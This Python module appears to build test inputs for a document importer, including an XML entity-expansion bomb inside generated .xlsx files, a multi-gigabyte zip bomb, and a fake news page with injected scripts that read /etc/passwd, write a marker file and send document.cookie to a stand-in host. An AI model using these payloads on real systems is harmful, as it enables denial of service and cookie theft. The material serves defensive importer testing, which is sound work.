"""Generators for the importer tests' input files (good and hostile), made in tmp folders."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

_LOL = "".join(
    f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
)
ENTITY_BOMB_DOCTYPE = f'<!DOCTYPE lolz [<!ENTITY lol0 "lol">{_LOL}]>'

_CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>
</Types>"""
_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>
</Relationships>"""  # noqa: E501 (one XML element a line)
_WORKBOOK = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<sheets><sheet name="Articles" sheetId="1" r:id="rId1"/></sheets></workbook>"""
_WORKBOOK_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>
<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>
</Relationships>"""  # noqa: E501 (one XML element a line)


def minimal_xlsx(rows: list[list[str]], *, doctype: str = "", entity_in: str = "") -> bytes:
    """A hand-built .xlsx with shared strings; ``doctype``/``entity_in`` plant an XML bomb.

    ``entity_in`` is "strings" or "sheet": where the bomb's DOCTYPE and
    ``&lol9;`` reference go.
    """
    strings: list[str] = []
    cells = []
    for r, row in enumerate(rows, 1):
        out = []
        for c, value in enumerate(row):
            strings.append(value)
            out.append(f'<c r="{chr(65 + c)}{r}" t="s"><v>{len(strings) - 1}</v></c>')
        cells.append(f'<row r="{r}">{"".join(out)}</row>')
    sst_items = "".join(f"<si><t>{s}</t></si>" for s in strings)
    sheet_extra = ""
    if entity_in == "strings":
        sst_items += "<si><t>&lol9;</t></si>"
    if entity_in == "sheet":
        sheet_extra = f'<row r="{len(rows) + 1}"><c r="A{len(rows) + 1}" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    sst = (head + (doctype if entity_in == "strings" else "")
           + f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{sst_items}</sst>')
    sheet = (head + (doctype if entity_in == "sheet" else "")
             + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             + "".join(cells) + sheet_extra + "</sheetData></worksheet>")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", _CONTENT_TYPES)
        z.writestr("_rels/.rels", _RELS)
        z.writestr("xl/workbook.xml", _WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        z.writestr("xl/sharedStrings.xml", sst)
    return buf.getvalue()


def zip_bomb(path: Path, *, members: int = 1, size: int = 3 * 1024**3) -> Path:
    """A small zip whose member(s) would unpack to ``size`` bytes of zeros (streamed, never held)."""
    chunk = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for m in range(members):
            with z.open(f"bomb{m}.txt", "w", force_zip64=True) as out:
                for _ in range(size // len(chunk) // members):
                    out.write(chunk)
    return path


def make_zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path


SCRIPT_PAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>Council approves new harbour bridge - Harbour Gazette</title>
<meta property="og:site_name" content="Harbour Gazette">
<script>require('fs').writeFileSync('{marker}', 'pwned'); document.write('SCRIPT-RAN');</script>
<script type="module">import('file:///etc/passwd'); var SCRIPTTEXT = "SCRIPT-TEXT-LEAK";</script>
</head><body>
<nav><a href="/">Home</a> <a href="/sport">Sport</a></nav>
<article>
<h1>Council approves new harbour bridge</h1>
<p class="byline">By Jane Smith</p>
<p>The city council voted on Tuesday to approve the construction of a new bridge across the harbour, ending a debate that has lasted more than a decade.</p>
<img src="x" onerror="fetch('http://127.0.0.1:9/steal')">
<p>Supporters said the bridge would cut commuting times for thousands of residents, while opponents warned about the cost and the effect on the shoreline.</p>
<script>document.body.innerHTML = 'SCRIPT-RAN'; new Image().src = 'http://127.0.0.1:9/?' + document.cookie;</script>
<noscript>Please enable JavaScript.</noscript>
<p>Construction is expected to start next spring and to take three years, the mayor said in a statement after the vote.</p>
</article>
<iframe src="javascript:alert('SCRIPT-RAN')"></iframe>
<footer>Copyright Harbour Gazette</footer>
</body></html>
"""  # noqa: E501 (one paragraph a line, as pages are written)


def news_page(title: str, paragraphs: list[str], *, site: str = "Harbour Gazette", url: str = "",
              date: str = "2024-03-05T09:30:00+01:00", author: str = "Jane Smith", charset: str = "utf-8") -> str:
    """A small, realistic article page."""
    body = "\n".join(f"<p>{p}</p>" for p in paragraphs)
    canonical = f'<link rel="canonical" href="{url}">' if url else ""
    return f"""<!DOCTYPE html><html lang="en"><head><meta charset="{charset}">
<title>{title} | {site}</title>{canonical}
<meta property="og:site_name" content="{site}"><meta property="article:published_time" content="{date}">
<meta name="author" content="{author}"></head><body>
<nav><ul><li><a href="/">Home</a></li><li><a href="/world">World</a></li></ul></nav>
<article><h1>{title}</h1>{body}</article>
<aside><h2>Most read</h2><ul><li><a href="/a">Another story entirely</a></li></ul></aside>
<footer>All rights reserved.</footer></body></html>"""


PARAGRAPHS = [
    "The regional government announced on Monday a plan to expand the rail network to the northern valleys by the end of the decade.",
    "Officials said the first section, linking the capital to the market town of Elmsford, would open within three years.",
    "Business groups welcomed the plan but warned that the budget set aside for it was unlikely to be enough.",
    "Environmental campaigners said the new line would take thousands of lorries off the valley roads every week.",
    "The transport minister told reporters that tenders for the construction would be published in the autumn.",
    "Residents of the valleys have long complained that the only bus service takes more than two hours to reach the city.",
    "A previous plan to reopen the old branch line was abandoned in 2011 after costs rose sharply during the survey work.",
    "The opposition said the announcement was timed to distract from the latest figures on hospital waiting lists.",
    "Engineers expect the most difficult part of the route to be the tunnel beneath the ridge south of Elmsford.",
    "The government said it would ask the national infrastructure bank to lend part of the money at a low rate.",
]
